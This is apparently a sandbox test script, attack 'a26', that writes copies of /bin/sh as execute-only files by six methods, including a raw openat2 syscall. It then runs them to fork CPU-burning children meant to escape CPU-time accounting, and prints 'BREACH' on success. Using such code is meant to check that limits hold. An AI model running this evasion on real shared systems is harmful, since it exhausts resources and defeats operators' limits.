# ATTACK a26_unreadable_programs
# TRIES: burn CPU time that no performance counter sees: the kernel takes it from who executes a file that cannot be read
# SAFE:  the CPU limit ends it, or no such file can be made
# JUDGE: nobreach nosurvivor
import ctypes, os, signal, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
BURN = """
import os, signal, sys, time
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
spent = 0.0
while spent < 2.9:
    reader, writer = os.pipe()
    for _ in range(3):
        if os.fork() == 0:
            while time.process_time() < 0.1: pass
            os.write(writer, b"x"); os._exit(0)
    os.close(writer)
    while part := os.read(reader, 9): spent += 0.1 * len(part)
    os.close(reader)
print("BREACH", sys.argv[1:], spent, "s of CPU time", flush=True)
"""
PROGRAM = open("/bin/sh", "rb").read()
PYTHON = os.readlink("/proc/self/exe")
def fill(fd):
    view = memoryview(PROGRAM)
    while view: view = view[os.write(fd, view):]
def by_chmod(): fill(fd := os.open("a", os.O_CREAT | os.O_WRONLY, 0o700)); os.close(fd); os.chmod("a", 0o111); return "a"
def by_fchmod(): fill(fd := os.open("b", os.O_CREAT | os.O_WRONLY, 0o700)); os.fchmod(fd, 0o111); os.close(fd); return "b"
def by_open(): fill(fd := os.open("c", os.O_CREAT | os.O_WRONLY, 0o111)); os.close(fd); return "c"
def by_umask(): os.umask(0o600); fill(fd := os.open("d", os.O_CREAT | os.O_WRONLY, 0o777)); os.close(fd); return "d"
def by_openat2():
    fd = libc.syscall(437, -100, b"e", struct.pack("QQQ", os.O_CREAT | os.O_WRONLY, 0o111, 0), 24)
    if fd < 0: raise OSError(ctypes.get_errno(), "openat2")
    fill(fd); os.close(fd); return "e"
def by_output(): fill(2); os.fchmod(2, 0o111); return 2
for way in (by_chmod, by_fchmod, by_open, by_umask, by_openat2, by_output):
    try:
        path = way()
        if os.access(path if path != 2 else "/proc/self/fd/2", os.R_OK): print("held", way.__name__, "readable"); continue
        if os.fork() == 0: os.execve(path, ["sh", "-c", 'exec "$0" -S -c "$@"', PYTHON, BURN, way.__name__], os.environ)
        os.wait()
    except OSError as error: print("held", way.__name__, error.errno)
    os.umask(0o077)
    for name in "abcde":
        try: os.unlink(name)
        except OSError: pass
